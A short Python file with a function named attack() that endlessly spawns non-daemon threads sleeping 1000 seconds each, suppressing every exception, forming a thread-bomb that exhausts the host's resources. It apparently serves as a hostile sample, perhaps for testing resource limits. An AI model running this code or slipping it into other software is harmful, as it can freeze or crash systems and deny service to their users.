"""Start threads without end."""

import contextlib
import threading
import time


def attack():
    while True:
        with contextlib.suppress(BaseException):
            threading.Thread(target=time.sleep, args=(1000,), daemon=False).start()
